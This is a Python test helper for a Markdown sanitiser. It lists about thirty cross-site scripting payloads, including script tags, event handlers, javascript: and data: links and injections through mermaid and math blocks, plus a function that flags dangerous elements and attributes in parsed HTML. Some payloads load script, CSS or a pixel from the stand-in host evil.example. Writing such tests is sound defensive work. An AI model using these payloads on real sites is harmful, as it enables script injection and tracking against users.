"""Markdown that attacks a page, and what a browser would act on in one."""

from bleach._vendor import html5lib  # reads a page as browsers do

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=http://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1) 'title')",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "[click](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    '\\![x" onerror="alert(1)](x)',
    "[x](file.html)",
    '[x](http://e.example "t\\" onmouseover=\\"alert(1)")',
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "~~~ mermaid\ngraph TD\n~~~",
    '```"><script>alert(1)</script>\nx\n```',
    "$<script>alert(1)</script>$",
    "\\begin{equation}<script>alert(1)</script>\\end{equation}",
    '# "onmouseover="alert(1)<script>',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<\x00script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "*[HTML]: x\n\nHTML",
    "[^1]: javascript:alert(1)\n\nx[^1]",
]
HARMLESS = set("p em strong sub code pre ul ol li br hr h1 h2 h3 h4 h5 h6 blockquote del".split())
HARMLESS |= set(
    "html head body table thead tbody tr th td div span a abbr dl dt dd sup section input".split()
)


def dangers(html: str) -> list[str]:
    """What a browser would act on: active elements, handlers, URLs other than links of the web."""
    found = []
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        if element.tag not in HARMLESS or element.get("class") == "mermaid":
            found.append(element.tag)
        for name, value in element.attrib.items():
            if name.startswith("on") or name in ("src", "srcdoc", "style", "formaction"):
                found.append(f"{element.tag} {name}")
            if name == "href" and not value.lower().startswith(("http://", "https://", "#")):
                found.append(f"{element.tag} href={value}")
    return found
